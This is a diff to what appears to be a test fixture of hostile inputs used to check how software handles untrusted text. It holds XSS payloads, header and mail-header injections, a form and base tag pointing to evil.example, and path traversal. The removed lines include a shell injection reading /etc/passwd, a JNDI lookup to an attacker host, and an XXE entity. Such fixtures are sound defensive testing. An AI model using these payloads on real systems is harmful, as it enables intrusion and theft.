@@ -8,16 +8,12 @@ export const markup = {
   'a script that ends its element':
     '"\'`></title></textarea></style></script><script>window.wasRun=1</script>',
   'an image with a handler': '<img src=x onerror=window.wasRun=1>',
-  'a drawing with a handler': '<svg/onload=window.wasRun=1>',
   'a handler for an attribute with double quotes': '" autofocus onfocus="window.wasRun=1',
   'a handler for an attribute without quotes': 'x onmouseover=window.wasRun=1',
   'a script address': 'javascript:window.wasRun=1',
-  'a script address with white space': ' java\tscript:window.wasRun=1',
   'a frame': '<iframe srcdoc="<script>parent.wasRun=1</script>">',
   'a form': '</form><form action=https://evil.example><input name=last_name>',
-  'a style': '<style>*{display:none}</style>',
   'a base address': '<base href=https://evil.example/>',
-  'a comment': '<!-- --!><img src=x onerror=window.wasRun=1>',
   'a CDATA section': ']]><![CDATA[<script>window.wasRun=1</script>',
   'a mutating table': '<table><a href=x><svg><style><!--</style><img src=x onerror=window.wasRun=1>',
   entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &notanentity;',
@@ -30,35 +26,26 @@ export const controls = {
     Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007F\u0085\u009F',
   'an escape sequence of a terminal': '\u001B[2J\u001B]0;owned\u0007\u009B31m',
   'line breaks of every kind': 'a\nb\rc\r\nd\u2028e\u2029f\u0085g\vh\fi',
-  'a line feed at the end': 'a\n',
   'spaces of every kind': 'a\u00A0b\u1680c\u2003d\u202Fe\u3000f',
   'a right-to-left override': 'photo\u202Egpj.exe',
   'direction isolates left open': '\u2066\u2067\u2068a',
   'zero width': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
-  'a soft hyphen': 'a\u00ADb',
-  'tag characters': 'a\u{E0041}\u{E007F}',
   'private and unassigned': '\uE000\u{F0000}\uFDD0\uFFFE\uFFFF\u{10FFFF}',
 };
 
 const scripts = {
   'a name in Telugu': 'శ్రీనివాస్',
-  'a name in Arabic': 'محمد',
   'a decomposed accent': 'Zoe\u0301',
   'many combining marks': `Z${'\u0300\u0316\u0489'.repeat(12)}`,
-  'a mark with nothing before it': '\u0301a',
   'a family in one emoji': '👩‍👩‍👧‍👦',
   'a flag, and half of one': '🇮🇳🇮',
   'letters beyond the first plane': '𝒜𝓈𝒽𝒶 𐐨',
-  'a half emoji at the start': '\uDE00a',
-  'a half emoji at the end': 'a\uD83D',
   'the halves in the wrong order': '\uDE00\uD83D',
 };
 
 export const protocols = {
   'a header smuggled in': 'a\r\nSet-Cookie: owned=1\r\n\r\n<script>window.wasRun=1</script>',
-  'a header smuggled in by escapes': 'a%0d%0aSet-Cookie:%20owned=1',
   'a mail header': 'asha@example.com\r\nBcc: all@example.com',
-  'an escape': '100%',
   'an escape cut short': '%E0%A4%A',
   'an escape of no character': '%ED%A0%80%FF',
   'escapes of escapes': '%253Cscript%253E',
@@ -67,12 +54,8 @@ export const protocols = {
   'SQL wildcards': '%_*?[a-z]',
   'a template': '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
   'a replacement pattern': "$& $1 $` $' $$",
-  'a shell command': '; $(touch owned) `id` | cat /etc/passwd',
-  'a log lookup': '${jndi:ldap://evil.example/a}',
   'a path out of the folder': '../../../../etc/passwd',
-  'an entity of XML': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
   JSON: '{"version":1,"id":null}',
-  'an expression that never ends': `${'a'.repeat(40)}!`,
 };
 
 const words = {
